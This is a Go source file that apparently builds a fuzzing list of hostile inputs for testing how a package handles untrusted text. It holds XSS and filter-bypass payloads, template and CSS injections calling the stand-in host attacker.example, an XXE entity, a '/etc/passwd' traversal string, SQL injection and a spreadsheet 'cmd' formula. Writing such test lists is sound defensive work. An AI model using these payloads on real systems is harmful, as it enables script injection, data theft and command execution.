package mcp

import (
	"fmt"
	"strings"
)

// attacks are texts that a stranger may send. Each begins otherwise, so that a failure names one.
func attacks() (list []string) {
	run := "pwned=1"
	out := "//attacker.example/"
	for _, tag := range []string{"img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "object data=x", "input autofocus", "details open", "marquee", "select autofocus", "form", "math", "style", "link rel=stylesheet href=" + out + "a.css"} {
		for _, event := range []string{"onerror", "onload", "onfocus", "ontoggle", "onbegin", "onanimationstart"} {
			list = append(list, fmt.Sprintf(`"'><%s %s="%s" >`, tag, event, run))
		}
	}
	for _, text := range []string{"<script>%s</script>", "<script src=" + out + "x.js></script>", "</title><script>%s</script>", "</textarea><script>%s</script>", "<scr<script>ipt>%s</script>", "<SCRIPT/x>%s</SCRIPT>", "javascript:%s", "java\nscript:%s", "data:text/html,<script>%s</script>",
		"<a href=javascript:%s>x</a>", "<svg><script>%s</script></svg>", "<svg><use href='data:image/svg+xml,<svg onload=%s>'/></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=%s>", "<noscript><p title='</noscript><img src=x onerror=%s>'>", "{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "*/%s/*",
		"<!--><img src=x onerror=%s>-->", "]]><img src=x onerror=%s>", "<template><script>%s</script></template>", "<iframe srcdoc='<script>parent.%s</script>'>", "<base href=" + out + ">", "<meta http-equiv=refresh content='0;url=" + out + "'>", "<form action=" + out + "><button>", "\\u003cscript\\u003e%s\\u003c/script\\u003e", "&lt;script&gt;%s&lt;/script&gt;", "%%3Cscript%%3E%s%%3C/script%%3E"} {
		if strings.Contains(text, "%s") {
			text = fmt.Sprintf(text, run)
		}
		list = append(list, text)
	}
	for _, css := range []string{"*{display:none}", "body{position:fixed;top:-9999px}", "@import '" + out + "x.css';", "nav{background:url(" + out + "x)}", "x:expression(" + run + ")", "@font-face{src:url(" + out + "f)}", ":root{--text:transparent}", "}*{font-size:999px", "#page{visibility:hidden}", "a::after{content:url(" + out + ")}"} {
		list = append(list, css, "<style>"+css+"</style>", `" style="`+css)
	}
	for _, c := range []string{"\u202e", "\u2066", "\u200f", "\u0000", "\u001b[2J", "\u001b]0;x\u0007", "\u009b31m", "\ufeff", "\u2028", "\u0085", "\u061c", "\u200b", "\ufffe", "\u0301\u0301\u0301"} {
		list = append(list, "a"+c+"gpj.exe", strings.Repeat(c+"x", 300))
	}
	for _, long := range []string{"A", "漢", "\u0301", "ﷺ", "\t", " ", "\n", "-", "\u00ad", "👨‍👩‍👧", "W"} {
		list = append(list, strings.Repeat(long, 6000/len(long)))
	}
	list = append(list, strings.Repeat(`{"a":[`, 500), strings.Repeat("[", 3000), "__proto__", "constructor", "prototype", `{"__proto__":{"x":1}}`, "toString", "null", "undefined", "NaN", "[object Object]", "%00", "../../../etc/passwd", "'; drop table calls; --", "GIF89a/*<svg/onload="+run+">*/="+run,
		"%PDF-1.4 <script>"+run+"</script>", "PK\u0003\u0004<img src=x onerror="+run+">", "\u00ff\u00d8\u00ff<script>"+run+"</script>", "=cmd|' /C calc'!A0", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM '"+out+"'>]><x>&a;</x>")
	return list
}
